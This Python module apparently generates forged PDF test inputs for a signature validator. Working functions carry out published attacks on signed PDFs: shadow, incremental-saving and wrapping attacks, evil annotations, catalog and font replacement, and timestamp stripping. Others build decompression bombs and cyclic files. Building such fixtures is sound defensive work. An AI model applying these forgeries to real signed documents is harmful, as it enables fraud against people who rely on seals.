"""What a forger does to a sealed file: each function takes good bytes and gives bad ones.

Names are those of the literature: shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021),
incremental saving, universal signature forgery and signature wrapping (Mladenov et al., "1
Trillion Dollar Refund", CCS 2019), evil annotation and sneaky signature (Rohlmann et al.,
S&P 2021).
"""

from __future__ import annotations

import re
import zlib
from io import BytesIO
from typing import TYPE_CHECKING, Any

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

if TYPE_CHECKING:
    from collections.abc import Callable

Writer = IncrementalPdfFileWriter


class QuietWriter(IncrementalPdfFileWriter):
    """Leaves title, producer and dates as they are."""

    def _update_meta(self) -> None:
        return


def appended(pdf: bytes, change: Callable[[Writer], object]) -> bytes:
    """`pdf` with one more revision in which `change` was made."""
    writer = QuietWriter(BytesIO(pdf), strict=False)
    change(writer)
    output = BytesIO()
    writer.write(output)  # type: ignore[no-untyped-call]  # pyHanko gives it no types
    return output.getvalue()


def first_page(writer: Writer) -> generic.DictionaryObject:
    kids: Any = writer.root["/Pages"]["/Kids"]
    page = kids[0]
    while "/Kids" in page:
        page = page["/Kids"][0]
    found: generic.DictionaryObject = page
    return found


# -- appended revisions ----------------------------------------------------------


def page_content_replaced(pdf: bytes) -> bytes:
    """The plainest one: the page says something else."""

    def change(writer: Writer) -> None:
        page = first_page(writer)
        stream = generic.StreamObject(stream_data=b"BT (Paid) Tj ET")
        page[pdf_name("/Contents")] = writer.add_object(stream)
        writer.update_container(page)

    return appended(pdf, change)


def annotation_added(pdf: bytes, **entries: generic.PdfObject) -> bytes:
    """A sticky note, which many programs let pass (evil annotation attack)."""

    def change(writer: Writer) -> None:
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (50, 50, 400, 400)]
                ),
                pdf_name("/Contents"): generic.pdf_string("Approved"),
                pdf_name("/F"): generic.NumberObject(4),
                **{pdf_name(f"/{name}"): value for name, value in entries.items()},
            }
        )
        page = first_page(writer)
        there: Any = page.get("/Annots", ())
        page[pdf_name("/Annots")] = generic.ArrayObject([*there, writer.add_object(note)])
        writer.update_container(page)

    return appended(pdf, change)


def attachment_swapped(pdf: bytes) -> bytes:
    """The machine-readable content is another one."""

    def change(writer: Writer) -> None:
        names: Any = writer.root["/Names"]["/EmbeddedFiles"]
        while "/Kids" in names:
            names = names["/Kids"][0]
        specification = names["/Names"][1]
        reference = specification["/EF"].raw_get("/F")
        stream: Any = reference.get_object()
        swapped = generic.StreamObject(dict_data=dict(stream), stream_data=b'{"paid": true}')
        swapped.pop("/Filter", None)
        writer.objects[(reference.generation, reference.idnum)] = swapped

    return appended(pdf, change)


def title_changed(pdf: bytes) -> bytes:
    def change(writer: Writer) -> None:
        info: Any = writer.trailer_view["/Info"]
        info[pdf_name("/Title")] = generic.pdf_string("Another title")
        writer.update_container(info)

    return appended(pdf, change)


def script_added(pdf: bytes) -> bytes:
    """A script that runs when the file is opened."""

    def change(writer: Writer) -> None:
        writer.root[pdf_name("/OpenAction")] = generic.DictionaryObject(
            {
                pdf_name("/S"): pdf_name("/JavaScript"),
                pdf_name("/JS"): generic.pdf_string("app.alert(1)"),
            }
        )
        writer.update_root()

    return appended(pdf, change)


def object_freed(pdf: bytes) -> bytes:
    """Shadow attack, hide: an object of the sealed page disappears, here by a table that
    says it is free, and what lay below it is seen."""
    reader = PdfFileReader(BytesIO(pdf))
    return _with_table(pdf, reader, {_page_content(reader).idnum: (0, 65535, "f")})


def prepared(pdf: bytes) -> bytes:
    """Before the seal: another content for the page hides in a stream that nothing uses."""
    reference = _page_content(PdfFileReader(BytesIO(pdf)))
    hidden = b"%d 0 obj\n<</Length 15>>stream\nBT (Paid) Tj ET\nendstream\nendobj\n" % (
        reference.idnum
    )
    stream = generic.StreamObject(stream_data=hidden)
    return appended(pdf, lambda writer: writer.add_object(stream))


def object_redirected(pdf: bytes) -> bytes:
    """Shadow attack, hide-and-replace, on a sealed `prepared` file: nothing is added but a
    table that leads to the other content, which the seal covers."""
    reader = PdfFileReader(BytesIO(pdf))
    reference = _page_content(reader)
    hidden = b"stream\n%d 0 obj\n" % reference.idnum
    at = pdf.index(hidden) + len(b"stream\n")
    return _with_table(pdf, reader, {reference.idnum: (at, 0, "n")})


def font_replaced(pdf: bytes) -> bytes:
    """Shadow attack, replace: fonts are thought harmless, and with another one the digits
    look like other digits."""

    def change(writer: Writer) -> None:
        resources: Any = first_page(writer)["/Resources"]
        fonts = resources["/Font"]
        name = next(iter(fonts))
        reference = fonts.raw_get(name)
        other = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Symbol"),
            }
        )
        writer.objects[(reference.generation, reference.idnum)] = other

    return appended(pdf, change)


def catalog_replaced(pdf: bytes) -> bytes:
    """Another catalog beside the old one: the pages are others, the seal's field stays."""

    def change(writer: Writer) -> None:
        page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (0, 0, 595, 842)]
                ),
            }
        )
        pages = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Pages"),
                pdf_name("/Kids"): generic.ArrayObject([writer.add_object(page)]),
                pdf_name("/Count"): generic.NumberObject(1),
            }
        )
        root = generic.DictionaryObject(dict(writer.root))
        root[pdf_name("/Pages")] = writer.add_object(pages)
        writer._root = writer.add_object(root)

    return appended(pdf, change)


def disguised_as_dss(pdf: bytes) -> bytes:
    """A revision that looks like validation data, and replaces the page on the way."""

    def change(writer: Writer) -> None:
        page = first_page(writer)
        stream = generic.StreamObject(stream_data=b"BT (Paid) Tj ET")
        page[pdf_name("/Contents")] = writer.add_object(stream)
        writer.update_container(page)
        writer.root[pdf_name("/DSS")] = writer.add_object(
            generic.DictionaryObject({pdf_name("/Certs"): generic.ArrayObject()})
        )
        writer.update_root()

    return appended(pdf, change)


def visible_stamp(pdf: bytes) -> bytes:
    """The field of the last document time-stamp takes room on the page."""

    def change(writer: Writer) -> None:
        fields: Any = writer.root["/AcroForm"]["/Fields"]
        field = fields[len(fields) - 1]
        field[pdf_name("/Rect")] = generic.ArrayObject(
            [generic.NumberObject(n) for n in (0, 0, 500, 800)]
        )
        writer.update_container(field)

    return appended(pdf, change)


def _page_content(reader: PdfFileReader) -> Any:
    kids: Any = reader.root["/Pages"]["/Kids"]
    page = kids[0]
    while "/Kids" in page:
        page = page["/Kids"][0]
    return page.raw_get("/Contents")


def without_table(pdf: bytes) -> bytes:
    """Incremental saving attack: new objects without table or trailer, for readers that repair."""
    return pdf + b"\n4 0 obj\n<</Length 15>>stream\nBT (Paid) Tj ET\nendstream\nendobj\n"


def _with_table(
    pdf: bytes, reader: PdfFileReader, entries: dict[int, tuple[int, int, str]]
) -> bytes:
    start = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    root = reader.trailer.raw_get("/Root")
    lines = [pdf if pdf.endswith(b"\n") else pdf + b"\n"]
    at = len(lines[0])
    lines.append(b"xref\n")
    for number, (offset, generation, kind) in sorted(entries.items()):
        lines.append(b"%d 1\n%010d %05d %s \n" % (number, offset, generation, kind.encode()))
    size = int(reader.trailer["/Size"])
    lines.append(b"trailer\n<</Size %d /Root %d 0 R /Prev %s>>\n" % (size, root.idnum, start))
    lines.append(b"startxref\n%d\n%%%%EOF\n" % at)
    return b"".join(lines)


# -- the seal itself ---------------------------------------------------------------


def gaps(pdf: bytes) -> list[tuple[int, int]]:
    """Where each /Contents lies, brackets included, in the order of the file."""
    found = re.findall(rb"/ByteRange\s*\[\s*0 (\d+) (\d+) \d+\s*\]", pdf)
    return [(int(first), int(second)) for first, second in found]


def with_cms(pdf: bytes, change: Callable[[Any], object], which: int = 0) -> bytes:
    """`pdf` with the CMS of one signature changed in place."""
    start, end = gaps(pdf)[which]
    info = cms.ContentInfo.load(bytes.fromhex(pdf[start + 1 : end - 1].decode()))
    change(info["content"])
    digits: bytes = info.dump(force=True).hex().encode()
    room = end - start - 2
    assert len(digits) <= room
    return pdf[: start + 1] + digits.ljust(room, b"0") + pdf[end - 1 :]


def timestamp_stripped(pdf: bytes) -> bytes:
    """The signature time-stamp is no part of what is signed, so it can be taken away."""

    def change(signed: Any) -> None:
        signed["signer_infos"][0]["unsigned_attrs"] = cms.CMSAttributes([])

    return with_cms(pdf, change)


def byte_range(pdf: bytes, numbers: bytes, which: int = 0) -> bytes:
    """`pdf` with other numbers in a /ByteRange, in the same room."""
    found = list(re.finditer(rb"/ByteRange\s*\[([^\]]*)\]", pdf))[which]
    room = found.end(1) - found.start(1)
    assert len(numbers) <= room
    return pdf[: found.start(1)] + numbers.ljust(room) + pdf[found.end(1) :]


def wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: the second covered part moves to the end, and where `startxref`
    leads a forger's table lies now; the seal still digests the same bytes."""
    start, end = gaps(pdf)[0]
    rest = len(pdf) - end
    table_at = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    forged = b"\n9 0 obj\n<</Length 15>>stream\nBT (Paid) Tj ET\nendstream\nendobj\n"
    forged = forged.ljust(table_at - end)
    table = pdf[table_at : pdf.index(b"startxref", table_at)]
    shift = len(forged) + len(table)

    def moved(entry: re.Match[bytes]) -> bytes:
        offset = int(entry[1])
        return b"%010d 00000 n" % (offset + shift if offset >= end else offset)

    table = re.sub(rb"(\d{10}) 00000 n", moved, table)
    wrapping = pdf[:end] + forged + table + pdf[end:]
    return byte_range(wrapping, b"0 %d %d %d" % (start, end + shift, rest))


def room_filled(pdf: bytes, which: int = 0) -> bytes:
    """Something other than zeros behind the signature, in its own room."""
    _, end = gaps(pdf)[which]
    return pdf[: end - 9] + b"DEADBEEF" + pdf[end - 1 :]


def stripped_to(pdf: bytes, revision: int) -> bytes:
    """Only the first revisions: `revision` 0 ends with the seal."""
    ends = [match.end() for match in re.finditer(rb"%%EOF\r?\n?", pdf)]
    # typst's own revision comes first, without an end of line.
    return pdf[: ends[revision]]


# -- files made to cost something ----------------------------------------------------


def _pdf(objects: list[bytes], extra: bytes = b"") -> bytes:
    """A classic file of these objects, the first being the catalog."""
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    at = len(body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    return (
        b"%sxref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d /Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            body,
            size,
            table,
            size,
            extra,
            at,
        )
    )


def many_objects(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids),
            *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * count,
        ]
    )


def large(size: int) -> bytes:
    """A page with an attachment of `size` bytes that does not shrink."""
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/AF[4 0 R]>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
            b"<</Length %d>>stream\n%s\nendstream" % (size, b"\xa5" * size),
        ]
    )


def cyclic_page_tree() -> bytes:
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]/Parent 3 0 R>>",
            b"<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>",
            b"<</T(a)/FT/Sig/Kids[4 0 R 5 0 R]/Parent 5 0 R>>",
            b"<</T(b)/FT/Sig/Kids[4 0 R]/Parent 4 0 R/V 5 0 R>>",
        ]
    )


def deep_nesting(depth: int) -> bytes:
    return _pdf([b"<</Type/Catalog/Pages 2 0 R/AcroForm " + b"[" * depth + b"]" * depth + b">>"])


def reference_chain(length: int) -> bytes:
    """An object that is another one, that is another one."""
    return _pdf(
        [
            b"<</Type/Catalog/AcroForm 2 0 R>>",
            *[b"%d 0 R" % (number + 3) for number in range(length)],
            b"2 0 R",
        ]
    )


def xref_cycle() -> bytes:
    """Two tables that each name the other as the earlier one."""
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n"
    at = len(body)
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 2/Root 1 0 R/Prev %d>>\n"
    other = at + len(table % at)
    return body + table % other + table % at + b"startxref\n%d\n%%%%EOF\n" % other


def xref_chain(length: int) -> bytes:
    """Very many revisions."""
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n"
    previous = b""
    for _ in range(length):
        at = len(body)
        body += b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 2/Root 1 0 R%s>>\n" % previous
        body += b"startxref\n%d\n%%%%EOF\n" % at
        previous = b"/Prev %d" % at
    return body


def bomb(megabytes: int, layers: int = 1) -> bytes:
    """An object stream that unpacks to very much, with the form in it, so that it is read."""
    data = b"2 0 " + b"<</Fields[]>>" + b" " * (megabytes * 1024 * 1024)
    for _ in range(layers):
        data = zlib.compress(data, 9)
    filters = b"[" + b"/FlateDecode " * layers + b"]"
    stream = b"<</Type/ObjStm/N 1/First 4/Length %d/Filter %s>>stream\n%s\nendstream" % (
        len(data),
        filters,
        data,
    )
    catalog = b"<</Type/Catalog/Pages 4 0 R/AcroForm 2 0 R>>"
    body = b"%PDF-1.7\n"
    at_catalog = len(body)
    body += b"1 0 obj\n" + catalog + b"\nendobj\n"
    at_stream = len(body)
    body += b"3 0 obj\n" + stream + b"\nendobj\n"
    at = len(body)
    rows = b"".join(
        kind.to_bytes(1) + first.to_bytes(4) + second.to_bytes(2)
        for kind, first, second in (
            (0, 0, 65535),
            (1, at_catalog, 0),
            (2, 3, 0),
            (1, at_stream, 0),
            (0, 0, 0),
            (1, at, 0),
        )
    )
    table = b"<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream" % (
        len(rows),
        rows,
    )
    return body + b"5 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
